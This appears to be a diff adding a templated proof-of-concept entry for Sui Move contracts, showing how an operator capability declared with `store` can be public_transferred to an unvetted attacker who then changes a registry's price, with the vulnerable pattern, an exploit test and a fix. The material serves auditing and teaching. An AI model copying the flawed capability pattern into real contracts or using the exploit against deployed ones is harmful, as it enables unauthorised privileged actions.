@@ -0,0 +1,100 @@
+// ---
+// name: Privileged Object Public Transfer
+// description: Capability with `store` can be public_transferred to holders it was never issued to
+// vulnerability_type: privileged-public-transfer
+// class: unauthenticated-privileged-action
+// chain: sui
+// severity: high
+// cwe: [CWE-269]
+// harness: sui-move-test
+// remediation: "Drop `store` from capability structs and move them with transfer::transfer inside
+//   the defining module, so holders cannot public_transfer or wrap them."
+// tags: [capability, access-control, transfer]
+// context:
+//   PACKAGE: Named address of the package under test (the test module lives in its tests/)
+//   MODULE: Module that issues the operator capability
+// references:
+//   - https://docs.sui.io/concepts/transfers/custom-rules
+//   - https://move-book.com/programmability/capability
+// ---
+// PoC Template: Privileged Object Public Transfer
+// Vulnerability: Capability with `store` can be public_transferred to holders it was never issued to
+// Chain: Sui/Move (sui move test)
+//
+// `transfer::public_transfer` works on any object with `store`, from any
+// module. A capability issued to a vetted operator that has `store` can be
+// handed on (sold, or moved by a compromised operator) to anyone, and the
+// module that checks "holds an OperatorCap" cannot tell the difference.
+
+// ============================================================
+// VULNERABLE CODE PATTERN
+// ============================================================
+// module example::registry {
+//     // BUG: `store` lets whoever holds the cap public_transfer it on
+//     public struct OperatorCap has key, store { id: UID }
+//
+//     public fun add_operator(_: &AdminCap, registry: &mut Registry, operator: address, ctx: &mut TxContext) {
+//         transfer::public_transfer(OperatorCap { id: object::new(ctx) }, operator);
+//     }
+//
+//     public fun set_price(_: &OperatorCap, registry: &mut Registry, price: u64) { ... }
+// }
+//
+// The target module needs a `#[test_only] public fun init_for_testing(ctx: &mut TxContext)`
+// that calls its `init`.
+
+// ============================================================
+// EXPLOIT TEST (sui move test)
+// ============================================================
+#[test_only]
+module {{PACKAGE}}::privileged_public_transfer_tests {
+    use sui::test_scenario as ts;
+    use {{PACKAGE}}::{{MODULE=registry}}::{Self, {{ADMIN_CAP_TYPE=AdminCap}}, {{CAP_TYPE=OperatorCap}}, {{REGISTRY_TYPE=Registry}}};
+
+    const ADMIN: address = @{{ADMIN_ADDRESS=0xAD}};
+    const OPERATOR: address = @{{OPERATOR_ADDRESS=0x0E}};
+    const ATTACKER: address = @{{ATTACKER_ADDRESS=0xBAD}};
+
+    #[test]
+    fun test_privileged_public_transfer() {
+        let mut scenario = ts::begin(ADMIN);
+        {{MODULE}}::init_for_testing(ts::ctx(&mut scenario));
+
+        // 1. The admin vets an operator and issues it a capability
+        ts::next_tx(&mut scenario, ADMIN);
+        let admin_cap = ts::take_from_sender<{{ADMIN_CAP_TYPE}}>(&scenario);
+        let mut registry = ts::take_shared<{{REGISTRY_TYPE}}>(&scenario);
+        {{MODULE}}::{{ISSUE_FUNCTION=add_operator}}(&admin_cap, &mut registry, OPERATOR, ts::ctx(&mut scenario));
+        ts::return_shared(registry);
+        ts::return_to_sender(&scenario, admin_cap);
+
+        // 2. The operator passes the capability on, outside the module's control
+        ts::next_tx(&mut scenario, OPERATOR);
+        let cap = ts::take_from_sender<{{CAP_TYPE}}>(&scenario);
+        transfer::public_transfer(cap, ATTACKER);
+
+        // 3. The attacker, never vetted, performs the privileged operation
+        ts::next_tx(&mut scenario, ATTACKER);
+        let cap = ts::take_from_sender<{{CAP_TYPE}}>(&scenario);
+        let mut registry = ts::take_shared<{{REGISTRY_TYPE}}>(&scenario);
+        {{MODULE}}::{{PRIVILEGED_FUNCTION=set_price}}(&cap, &mut registry, {{PRICE_AMOUNT=1}});
+        ts::return_shared(registry);
+        ts::return_to_sender(&scenario, cap);
+
+        // Reaching here without an abort is the bug
+        ts::end(scenario);
+    }
+}
+
+// ============================================================
+// FIX: Drop `store` from privileged objects
+// ============================================================
+// public struct OperatorCap has key { id: UID }
+//
+// public fun add_operator(_: &AdminCap, registry: &mut Registry, operator: address, ctx: &mut TxContext) {
+//     transfer::transfer(OperatorCap { id: object::new(ctx) }, operator);  // Only this module can move it
+// }
+//
+// Without `store` the cap cannot be public_transferred, wrapped in another
+// object or placed in a kiosk; record each cap's ID in the registry too if
+// operators must be revocable.